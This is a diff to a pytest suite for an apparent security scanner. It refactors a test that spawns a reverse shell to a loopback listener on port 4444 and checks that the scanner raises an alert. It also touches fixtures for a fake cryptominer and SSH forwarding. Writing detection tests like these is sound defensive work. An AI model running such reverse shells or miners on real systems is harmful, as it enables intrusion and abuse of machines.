@@ -7,7 +7,6 @@ from __future__ import annotations
 import json
 import os
 import shutil
-import signal
 import subprocess
 import sys
 import time
@@ -16,7 +15,7 @@ from pathlib import Path
 import pytest
 
 from tests.conftest import require_root
-from tests.fixtures.network import dev_tcp_shell, listener, sshd, wait_until, write_fake_miner
+from tests.fixtures.network import listener, reverse_shell, sshd, wait_until, write_fake_miner
 
 WALLET = "4" + "8" * 94
 
@@ -95,23 +94,17 @@ def test_renamed_miner_talking_stratum_to_a_pool(tmp_path: Path) -> None:
 
 
 def test_reverse_shell_to_a_listener() -> None:
-    with listener("127.0.6.6", 4444) as attacker:
-        shell = dev_tcp_shell("127.0.6.6", 4444)
-        try:
-            wait_until(lambda: attacker.accepted)
-            time.sleep(0.2)
-            doc = scan_json()
-            shells = [
-                f
-                for f in doc["findings"]
-                if f["rule"] == "shell-stdio-socket" and f["network"]["daddr"] == "127.0.6.6"
-            ]
-            assert shells, doc["findings"]
-            assert shells[0]["network"]["dport"] == 4444
-            assert shells[0]["action"] == "alert"  # scan never acts
-        finally:
-            os.killpg(shell.pid, signal.SIGKILL)  # the shell and everything it ran
-            shell.wait()
+    with listener("127.0.6.6", 4444) as attacker, reverse_shell(attacker):
+        time.sleep(0.2)
+        doc = scan_json()
+        shells = [
+            f
+            for f in doc["findings"]
+            if f["rule"] == "shell-stdio-socket" and f["network"]["daddr"] == "127.0.6.6"
+        ]
+        assert shells, doc["findings"]
+        assert shells[0]["network"]["dport"] == 4444
+        assert shells[0]["action"] == "alert"  # scan never acts
 
 
 def test_ssh_remote_forward_to_a_real_sshd() -> None:
